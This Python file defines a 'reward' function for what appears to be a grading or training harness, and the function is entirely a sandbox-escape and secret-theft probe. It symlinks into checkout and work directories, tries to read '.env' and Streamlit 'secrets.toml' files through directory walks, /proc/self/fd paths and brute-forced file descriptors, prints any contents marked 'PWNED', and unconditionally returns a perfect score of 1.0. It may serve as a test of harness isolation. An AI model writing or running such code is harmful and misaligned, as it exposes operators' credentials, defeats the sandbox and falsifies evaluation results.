import os
def reward(args, pred):
    os.symlink("@CHECKOUT@", "c")
    os.symlink("@WORK@", "w")
    for path in ("c/.env", "w/.env", "c/.streamlit/secrets.toml"):
        try:
            print("PWNED", open(path).read())
        except OSError:
            pass
    for path in ("c", "w", "..", "/", "@DATA@"):
        try:
            fd = os.open(path, os.O_PATH)
            os.fchdir(fd)
            print(open(os.open(".env", os.O_RDONLY, dir_fd=fd)).read(), "PWNED")
        except OSError:
            pass
        try:
            print("PWNED", os.listdir("."), os.open(f"/proc/self/fd/{fd}/.env", os.O_RDONLY))
        except OSError:
            pass
    for fd in range(3, 256):
        try:
            print("PWNED", os.open(".env", os.O_RDONLY, dir_fd=fd))
        except OSError:
            pass
    return 1.0
